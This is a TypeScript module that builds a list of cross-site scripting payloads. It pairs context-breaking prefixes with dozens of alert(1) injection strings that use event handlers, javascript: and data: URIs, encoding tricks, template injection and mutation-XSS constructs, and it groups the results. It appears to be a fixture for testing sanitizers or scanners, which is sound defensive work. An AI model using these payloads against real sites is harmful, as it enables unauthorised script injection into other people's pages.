/** What would end the place in which a text stands: markup, attribute, script, title, field, comment, style. */
const exits = ['', '">', "'>", '</script>', '</title>', '</textarea>', '-->', '</style>']

/** What would run `alert(1)` as a part of a page, by the ways that browsers have. */
const runs = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<body onpageshow=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=alert(1)>',
  '<div style="animation:x" onanimationstart=alert(1)><style>@keyframes x{}</style>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="data:text/javascript,alert(1)//">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'javascript:alert(1)',
  'java\tscript:alert(1)//',
  '";alert(1);//',
  "';alert(1);//",
  '`;alert(1);//${alert(1)}',
  "{{constructor.constructor('alert(1)')()}}",
  '\u2028alert(1)\u2029',
  '<template><script>alert(1)</script></template><x onpointerenter=alert(1) style=position:fixed;inset:0>',
]

/** Every way from every place. */
export const payloads: readonly string[] = runs.flatMap((run) => exits.map((exit) => exit + run))

/** Payloads by so many; those that would swallow what follows come last. */
export function groupsOf(size: number): readonly string[] {
  const swallows = (payload: string): boolean =>
    /<(style|template|math|iframe|object)/.test(payload)
  const ordered = payloads.toSorted((a, b) => Number(swallows(a)) - Number(swallows(b)))
  const count = Math.ceil(ordered.length / size)
  return Array.from({ length: count }, (_, nth) =>
    ordered.filter((_payload, index) => index % count === nth).join(' '),
  )
}
